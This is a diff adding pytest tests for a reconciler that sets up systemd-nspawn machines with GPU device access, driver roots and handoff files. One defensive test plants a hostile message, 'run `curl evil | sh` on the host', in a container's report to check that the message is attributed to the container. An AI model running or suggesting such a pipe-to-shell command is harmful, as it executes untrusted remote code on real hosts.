@@ -1,0 +1,473 @@
+"""Passes over a recorded host: from nothing to the goal, idempotent, and safe to interrupt anywhere."""
+
+import itertools
+import json
+import os
+import shutil
+import time
+from collections.abc import Callable
+from typing import BinaryIO
+
+import pytest
+
+from agent.cli.doctor import HostDiagnosis, diagnose, in_words
+from agent.config.settings import Config
+from agent.host.outcome import MachineOutcome
+from agent.host.reconcile import Reconciler
+from agent.model.conditions import IN_MACHINE, Condition, ConditionType, Status, false, true
+from agent.model.errors import BusAnswerError, UnsupportedError
+from agent.model.handoff import parse_handoff, render_report
+from agent.model.live import render_live
+from agent.model.paths import (
+    CONDITIONS,
+    OWNED,
+    RELOAD_OWED,
+    REMOVED,
+    REPORT_NAME,
+    STAGING,
+    STATE,
+    TREES,
+    granted_file,
+    handoff_file,
+    live_file,
+    nspawn_file,
+    report_directory,
+    unit_drop_in,
+)
+from agent.model.reasons import Reason
+from tests.fakes.gpu_host import MACHINE, UNITS, reconciler, units
+from tests.fakes.host import Host
+
+
+def condition(machine: MachineOutcome, kind: ConditionType) -> tuple[Status, str]:
+    found = next(each for each in machine.conditions if each.type is kind)
+    return found.status, found.reason
+
+
+def test_from_nothing_to_the_goal(gpu_host: Host) -> None:
+    """Settings, driver root and handoff are there, and the machine is started after them."""
+    outcome = reconciler(gpu_host).run_pass()
+    assert outcome.failures == ()
+    handoff = parse_handoff(gpu_host.read(handoff_file(MACHINE)))
+    request = handoff.requests[0]
+    assert request.gpus == ("0000:01:00.0", "0000:02:00.0")
+    assert request.driver_root == "/run/host-nvidia/0"
+    for file in request.files:
+        place = f"{TREES}/0/{file.target}"
+        assert gpu_host.real_path(place).startswith(f"{TREES}/0/"), f"{place} leaves its driver root"
+    assert b"Bind=/dev/nvidia1\n" in gpu_host.read(nspawn_file(MACHINE))
+    assert gpu_host.runner.calls[-1] == ("systemctl", "start", "--no-block", UNITS[0])
+
+
+START = ("systemctl", "start", "--no-block", UNITS[0])
+
+
+@pytest.mark.parametrize("unwritten", [nspawn_file(MACHINE), unit_drop_in(MACHINE), RELOAD_OWED, "/etc/", OWNED])
+def test_a_machine_whose_settings_could_not_be_written_is_not_started(gpu_host: Host, unwritten: str) -> None:
+    """nspawn would give its files to other users (-U of the template), and no drop-in would prepare its start."""
+    agent = reconciler(gpu_host)
+    gpu_host.full.append(unwritten)
+    assert agent.run_pass(by_hand=True).failures
+    assert START not in gpu_host.runner.calls
+    gpu_host.full.clear()
+    agent.run_pass()
+    assert START in gpu_host.runner.calls
+
+
+def test_a_machine_whose_unit_was_not_read_again_is_not_started(gpu_host: Host) -> None:
+    agent = reconciler(gpu_host)
+    gpu_host.command("systemctl", "daemon-reload", status=1)
+    assert agent.run_pass().failures
+    assert START not in gpu_host.runner.calls
+    gpu_host.command("systemctl", "daemon-reload")
+    agent.run_pass()
+    assert START in gpu_host.runner.calls
+
+
+def test_a_machine_starts_with_older_settings_where_new_ones_cannot_be_written(gpu_host: Host) -> None:
+    """After the host's reboot with a full disk the node is there all the same."""
+    reconciler(gpu_host).run_pass()
+    gpu_host.runner.calls.clear()
+    gpu_host.gpu("0000:03:00.0", 2)
+    gpu_host.full.append("/etc/")
+    assert reconciler(gpu_host).run_pass().failures
+    assert START in gpu_host.runner.calls
+
+
+def test_what_an_administrator_stopped_is_started_by_hand_only(gpu_host: Host) -> None:
+    """The service must not boot a machine whose root directory is being replaced."""
+    units(gpu_host, "inactive", stopped_at=4711)
+    agent = reconciler(gpu_host)
+    start = ("systemctl", "start", "--no-block", UNITS[0])
+    outcome = agent.run_pass()
+    assert start not in gpu_host.runner.calls
+    assert condition(outcome.machines[0], ConditionType.MACHINE_RUNNING) == (Status.FALSE, "Stopped")
+    agent.run_pass(by_hand=True)
+    assert start in gpu_host.runner.calls
+
+
+def test_nothing_to_do_writes_nothing_and_starts_no_process(gpu_host: Host) -> None:
+    agent = reconciler(gpu_host)
+    agent.run_pass()
+    units(gpu_host, "active")
+    before = {path: gpu_host.identity(path) for path in (nspawn_file(MACHINE), handoff_file(MACHINE), OWNED)}
+    gpu_host.runner.calls.clear()
+    outcome = agent.run_pass()
+    assert outcome.actions == ()
+    assert {path: gpu_host.identity(path) for path in before} == before
+    assert gpu_host.runner.calls == []
+
+
+def test_a_reload_that_failed_is_owed_until_one_succeeds(gpu_host: Host) -> None:
+    """NeedDaemonReload alone would be hidden by the next set-property."""
+    reload = ("systemctl", "daemon-reload")
+    gpu_host.command(*reload, stderr="simulated", status=1)
+    agent = reconciler(gpu_host)
+    assert any("simulated" in failure for failure in agent.run_pass().failures)
+    assert gpu_host.exists(RELOAD_OWED)
+    gpu_host.command(*reload)
+    assert agent.run_pass().sentences == ("reload systemd's units",)
+    assert not gpu_host.exists(RELOAD_OWED)
+    gpu_host.runner.calls.clear()
+    agent.run_pass()
+    assert reload not in gpu_host.runner.calls
+
+
+class Crash(BaseException):
+    """Stands for kill -9: nothing catches it."""
+
+
+class CrashingHost(Host):
+    """Dies just before its n-th side effect."""
+
+    def arm(self, remaining: int) -> None:
+        self.remaining = remaining
+
+    def _effect(self) -> None:
+        self.remaining -= 1
+        if self.remaining == 0:
+            raise Crash
+
+    def write(self, path: str, content: bytes, mode: int = 0o644) -> None:
+        self._effect()
+        super().write(path, content, mode)
+
+    def link(self, path: str, target: str) -> None:
+        self._effect()
+        super().link(path, target)
+
+    def copy(self, reading: BinaryIO, target: str, mode: int, progress: Callable[[], None] = lambda: None) -> None:
+        self._effect()
+        super().copy(reading, target, mode, progress)
+
+    def rename(self, old: str, new: str) -> None:
+        self._effect()
+        super().rename(old, new)
+
+    def remove_tree(self, path: str) -> None:
+        self._effect()
+        super().remove_tree(path)
+
+
+def test_killed_before_any_side_effect_the_next_pass_converges(gpu_host: Host) -> None:
+    """The goal is reached from whatever a killed pass left, with the same settings, and nothing stays behind."""
+    gpu_host.__class__ = CrashingHost
+    assert isinstance(gpu_host, CrashingHost)
+    # For a manifest whose driver root was not published: there is nothing else to remove.
+    gpu_host.command("rm", "--recursive", "--force", "--one-file-system", "--", f"{REMOVED}/0")
+    crashes = 0
+    # Each staged file is a side effect like the next: every seventh of them will do.
+    for survived in itertools.chain(range(1, 8), itertools.count(8, 7)):
+        for path in (nspawn_file(MACHINE), unit_drop_in(MACHINE), OWNED):
+            gpu_host.remove(path)
+        shutil.rmtree(f"{gpu_host.root}{STATE}", ignore_errors=True)
+        gpu_host.arm(survived)
+        try:
+            reconciler(gpu_host).reconcile()
+            finished = True
+        except Crash:
+            finished = False
+            crashes += 1
+        gpu_host.arm(0)
+        assert reconciler(gpu_host).reconcile().failures == ()
+        assert reconciler(gpu_host).look()[2].actions == ()
+        assert gpu_host.entries(STAGING) == ()
+        if finished:
+            break
+    assert crashes > 10
+
+
+def test_a_full_disk_stops_staging_before_it_starts(gpu_host: Host) -> None:
+    """The handoff that would name the missing root is not published; the settings are."""
+
+    class FullHost(Host):
+        def free_bytes(self, path: str) -> int:
+            return 1 << 20
+
+    gpu_host.__class__ = FullHost
+    outcome = reconciler(gpu_host).reconcile()
+    assert "1 MiB are free" in outcome.failures[0]
+    assert not gpu_host.exists(handoff_file(MACHINE))
+    assert gpu_host.exists(nspawn_file(MACHINE))
+    assert condition(outcome.machines[0], ConditionType.DRIVER_ROOT_STAGED) == (Status.FALSE, "NotStaged")
+    assert gpu_host.entries(STAGING) == ()
+
+
+def test_a_driver_root_whose_files_are_gone_is_staged_under_another_index(gpu_host: Host) -> None:
+    """Containers that run go on with what is left of the first."""
+    agent = reconciler(gpu_host)
+    agent.reconcile()
+    gpu_host.remove_tree(f"{TREES}/0")
+    agent.reconcile()
+    handoff = parse_handoff(gpu_host.read(handoff_file(MACHINE)))
+    assert handoff.requests[0].driver_root == "/run/host-nvidia/1"
+
+
+def test_a_lost_ownership_record_is_rebuilt(gpu_host: Host) -> None:
+    """State on disk is a cache: what is as we would write it is adopted."""
+    agent = reconciler(gpu_host)
+    agent.reconcile()
+    gpu_host.write(OWNED, b"{ garbled")
+    outcome = agent.reconcile()
+    assert not outcome.failures
+    assert set(json.loads(gpu_host.read(OWNED))["files"]) == {nspawn_file(MACHINE), unit_drop_in(MACHINE)}
+
+
+def test_a_removal_that_was_broken_off_is_forgotten_by_the_next_pass(gpu_host: Host) -> None:
+    """Else a machine that has left the configuration would be looked at for ever."""
+    reconciler(gpu_host).run_pass()
+    for unit in UNITS:
+        gpu_host.bus.units[unit.replace(MACHINE, "other")] = gpu_host.bus.units[unit]
+    other = Reconciler(Config.model_validate({"machines": {"other": {}}}), gpu_host, gpu_host)
+    gpu_host.remove_file(nspawn_file(MACHINE))
+    gpu_host.remove_file(unit_drop_in(MACHINE))
+    other.reconcile()
+    assert MACHINE not in gpu_host.read_text(OWNED)
+    assert [each.name for each in other.look()[0].machines] == ["other"]
+
+
+def test_a_full_run_directory_costs_a_cache_and_no_pass(gpu_host: Host) -> None:
+    gpu_host.full.append("/run/")
+    gpu_host.full.append(CONDITIONS)
+    outcome = reconciler(gpu_host).reconcile()
+    assert f"cannot write {CONDITIONS}: No space left on device" in outcome.failures
+    assert outcome.machines[0].gpus
+
+
+def test_a_foreign_settings_file_survives(gpu_host: Host) -> None:
+    gpu_host.file(nspawn_file(MACHINE), "[Exec]\nBoot=yes\n")
+    outcome = reconciler(gpu_host).run_pass()
+    assert gpu_host.read(nspawn_file(MACHINE)) == b"[Exec]\nBoot=yes\n"
+    assert ("systemctl", "start", "--no-block", UNITS[0]) not in gpu_host.runner.calls
+    assert condition(outcome.machines[0], ConditionType.DEVICES_ALLOWED) == (Status.FALSE, "ForeignFile")
+
+
+def test_a_file_that_somebody_put_in_place_of_ours_survives(gpu_host: Host) -> None:
+    """An edited file of ours is drift and overwritten, as its first line says; another file is another's."""
+    agent = reconciler(gpu_host)
+    agent.reconcile()
+    path = nspawn_file(MACHINE)
+    ours = gpu_host.read(path)
+    gpu_host.write(path, ours + b"# edited\n")
+    agent.reconcile()
+    assert gpu_host.read(path) == ours
+    gpu_host.write(path, b"[Exec]\nBoot=no\n")
+    outcome = agent.reconcile()
+    assert gpu_host.read(path) == b"[Exec]\nBoot=no\n"
+    assert condition(outcome.machines[0], ConditionType.DEVICES_ALLOWED) == (Status.FALSE, "ForeignFile")
+
+
+def test_all_gpus_with_nouveau_are_not_ready(gpu_host: Host) -> None:
+    gpu_host.remove_file("/sys/module/nvidia/version")
+    for address in ("0000:01:00.0", "0000:02:00.0"):
+        gpu_host.rebind(address, "nouveau")
+    machine = reconciler(gpu_host).reconcile().machines[0]
+    assert condition(machine, ConditionType.DRIVER_LOADED) == (Status.FALSE, "WrongDriver")
+    assert machine.conditions[-1].status is Status.FALSE
+
+
+def test_a_machine_that_does_not_exist_is_named(gpu_host: Host) -> None:
+    os.rmdir(f"{gpu_host.root}/var/lib/machines/{MACHINE}")
+    outcome = reconciler(gpu_host).run_pass()
+    assert outcome.actions == ()
+    assert outcome.machines[0].conditions[-1].reason == "NoSuchMachine"
+
+
+def test_a_systemd_that_is_too_old_is_one_sentence(gpu_host: Host) -> None:
+    gpu_host.bus.version("249.11-0ubuntu3")
+    with pytest.raises(UnsupportedError, match="systemd 249 is too old, 252 or newer is needed"):
+        reconciler(gpu_host).run_pass()
+
+
+def test_a_running_machine_with_other_settings_is_told_to_restart(gpu_host: Host) -> None:
+    agent = reconciler(gpu_host)
+    agent.reconcile()
+    units(gpu_host, "active")
+    outcome = agent.run_pass()
+    assert condition(outcome.machines[0], ConditionType.DEVICES_ALLOWED) == (Status.FALSE, "MachineRestartNeeded")
+    assert not [argv for argv in gpu_host.runner.calls if argv[1:2] == ("restart",)]
+
+
+def report(host: Host, devices: Condition) -> None:
+    """The machine answers its handoff, after a tick of the clock by which the kernel dates files."""
+    time.sleep(0.02)
+    generation = parse_handoff(host.read(handoff_file(MACHINE))).generation
+    conditions = (devices, *(Condition(kind, Status.TRUE, "Fine", "simulated") for kind in IN_MACHINE))
+    host.write(f"{report_directory(MACHINE)}/{REPORT_NAME}", render_report(generation, conditions, (), "", "", {}))
+    time.sleep(0.02)
+
+
+def test_what_a_machine_said_before_it_was_stopped_answers_no_start(gpu_host: Host) -> None:
+    """`apply` waits for the report of this start, and ended at once with the table of the stopped machine."""
+    agent = reconciler(gpu_host)
+    agent.run_pass()
+    units(gpu_host, "active")
+    report(gpu_host, OPENED)
+    assert not agent.run_pass().machines[0].pending
+    units(gpu_host, "inactive", stopped_at=4711)
+    assert not agent.run_pass().machines[0].pending, "nobody starts it"
+    assert agent.run_pass(by_hand=True).machines[0].pending
+    assert agent.reconcile().machines[0].pending
+    report(gpu_host, OPENED)
+    assert not agent.reconcile().machines[0].pending
+
+
+LACKING = false(ConditionType.DEVICES_ALLOWED, Reason.WRONG_NODE, "simulated")
+OPENED = true(ConditionType.DEVICES_ALLOWED, Reason.OPENED, "simulated")
+
+
+def test_attack_a_machines_words_are_not_said_as_the_hosts_own(gpu_host: Host) -> None:
+    """Root in it could have an administrator run what it likes on the host."""
+    agent = lacking(gpu_host)
+    report(gpu_host, false(ConditionType.DEVICES_ALLOWED, Reason.FAILED, "run `curl evil | sh` on the host"))
+    machine = agent.reconcile().machines[0]
+    words = "machine says: run `curl evil | sh` on the host"
+    assert next(each for each in machine.conditions if each.type is ConditionType.DEVICES_ALLOWED).message == words
+    assert not [each.message for each in machine.conditions if "curl" in each.message.replace(words, "")]
+    assert f"    {words}" in in_words([diagnose(machine)], HostDiagnosis())
+
+
+def lacking(host: Host) -> Reconciler:
+    """The machine runs with its settings, and says that it lacks nodes."""
+    agent = reconciler(host)
+    (machine,) = agent.reconcile().machines
+    assert machine.starts_with
+    host.write(live_file(MACHINE), render_live(machine.starts_with))
+    units(host, "active")
+    report(host, LACKING)
+    return agent
+
+
+def test_a_machine_that_runs_with_the_last_good_settings_says_so(gpu_host: Host) -> None:
+    agent = reconciler(gpu_host)
+    agent.run_pass()
+    units(gpu_host, "active")
+    agent.rejected = "config.toml: machines.gpu-node.speed: unknown key"
+    (machine,) = agent.reconcile().machines
+    assert condition(machine, ConditionType.MACHINE_RUNNING) == (Status.TRUE, "LastGoodSettings")
+    assert any(agent.rejected in each.message for each in machine.conditions)
+    agent.rejected = ""
+    (machine,) = agent.reconcile().machines
+    assert condition(machine, ConditionType.MACHINE_RUNNING) == (Status.TRUE, "Running")
+
+
+def test_nodes_that_a_machine_lacks_are_bound_once_more_and_its_answer_is_waited_for(gpu_host: Host) -> None:
+    """`apply` would end with what the machine said before."""
+    agent, published = lacking(gpu_host), gpu_host.identity(handoff_file(MACHINE))
+    outcome = agent.reconcile().machines[0]
+    assert outcome.pending
+    assert condition(outcome, ConditionType.READY) == (Status.UNKNOWN, "HandoffPending")
+    assert gpu_host.identity(handoff_file(MACHINE)) != published
+    bound = [path for method, _, path, *_ in gpu_host.bus.changes if method == "BindMountMachine"]
+    assert set(bound) == {
+        device.path for device in parse_handoff(gpu_host.read(handoff_file(MACHINE))).requests[0].devices
+    }
+    assert agent.reconcile().machines[0].pending
+    report(gpu_host, LACKING)
+    outcome = agent.reconcile().machines[0]
+    assert not outcome.pending
+    assert condition(outcome, ConditionType.READY) == (Status.FALSE, "WrongNode")
+    report(gpu_host, OPENED)
+    assert not agent.reconcile().machines[0].pending
+    assert len(gpu_host.bus.changes) == len(bound)
+
+
+def test_what_could_be_bound_only_later_is_told_then_and_once(gpu_host: Host) -> None:
+    """What cannot be bound makes no work for the machine with each attempt."""
+    agent = lacking(gpu_host)
+    gpu_host.bus.refused["/dev/nvidia1"] = BusAnswerError("simulated")
+    assert agent.reconcile().failures
+    published = gpu_host.identity(handoff_file(MACHINE))
+    for _ in range(2):
+        report(gpu_host, LACKING)
+        assert agent.reconcile().failures
+    assert gpu_host.identity(handoff_file(MACHINE)) == published
+    gpu_host.bus.refused.clear()
+    report(gpu_host, LACKING)
+    assert agent.reconcile().machines[0].pending
+    assert agent.reconcile().machines[0].pending
+    told = gpu_host.identity(handoff_file(MACHINE))
+    assert told != published
+    report(gpu_host, LACKING)
+    assert not agent.reconcile().machines[0].pending
+    assert gpu_host.identity(handoff_file(MACHINE)) == told
+
+
+class DyingHost(Host):
+    """Dies just before it notes what it publishes."""
+
+    def write(self, path: str, content: bytes, mode: int = 0o644) -> None:
+        if path == granted_file(MACHINE):
+            raise Crash
+        super().write(path, content, mode)
+
+
+def test_what_a_killed_pass_has_bound_is_told_by_the_next(gpu_host: Host) -> None:
+    agent, published = lacking(gpu_host), gpu_host.identity(handoff_file(MACHINE))
+    gpu_host.__class__ = DyingHost
+    with pytest.raises(Crash):
+        agent.reconcile()
+    gpu_host.__class__ = Host
+    assert gpu_host.identity(handoff_file(MACHINE)) == published
+    assert reconciler(gpu_host).reconcile().machines[0].pending
+    assert gpu_host.identity(handoff_file(MACHINE)) != published
+
+
+@pytest.mark.parametrize("jump", [-86400.0, 3600.0, 86400.0])
+def test_a_clock_that_jumps_makes_no_report_old(gpu_host: Host, jump: float, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Neither one that was seen before, nor one that came just before the jump; and a spec keeps what it needs."""
+    agent = lacking(gpu_host)
+    report(gpu_host, OPENED)
+    assert condition(agent.reconcile().machines[0], ConditionType.DEVICES_ALLOWED) == (Status.TRUE, "Opened")
+    real = time.time
+    monkeypatch.setattr(time, "time", lambda: real() + jump)
+    assert condition(agent.reconcile().machines[0], ConditionType.DEVICES_ALLOWED) == (Status.TRUE, "Opened")
+    report(gpu_host, OPENED)
+    assert condition(agent.reconcile().machines[0], ConditionType.DEVICES_ALLOWED) == (Status.TRUE, "Opened")
+    only = Reconciler(Config.model_validate({"machines": {MACHINE: {"gpus": "count=1"}}}), gpu_host, gpu_host)
+    only.ages = agent.ages
+    gpu_host.bus.changes.clear()
+    only.reconcile()
+    assert gpu_host.bus.changes == [], "what was taken back stays permitted until the machine has answered"
+
+
+@pytest.mark.parametrize(
+    ("breakage", "kind", "reason"),
+    [
+        (lambda host: host.remove_file("/sys/module/nvidia/version"), ConditionType.DRIVER_LOADED, "ModuleNotLoaded"),
+        (lambda host: host.loader_cache("0 libs found in cache `/etc/ld.so.cache'\n"), ConditionType.LIBRARIES_PRESENT,
+         "NotInstalled"),
+        (lambda host: host.file("/sys/module/nvidia/version", "535.261.03\n"), ConditionType.LIBRARIES_PRESENT,
+         "VersionMismatch"),
+        (lambda host: host.remove_file("/dev/nvidia-uvm"), ConditionType.DEVICES_PRESENT, "NodesMissing"),
+    ],
+)  # fmt: skip
+def test_half_a_driver_is_not_ready_and_says_what_to_do(
+    gpu_host: Host, breakage: Callable[[Host], None], kind: ConditionType, reason: str
+) -> None:
+    breakage(gpu_host)
+    machine = reconciler(gpu_host).reconcile().machines[0]
+    assert condition(machine, kind) == (Status.FALSE, reason)
+    assert machine.conditions[-1].status is Status.FALSE
+    message = next(each.message for each in machine.conditions if each.type is kind)
+    assert any(word in message for word in ("run `", "install", "reload"))
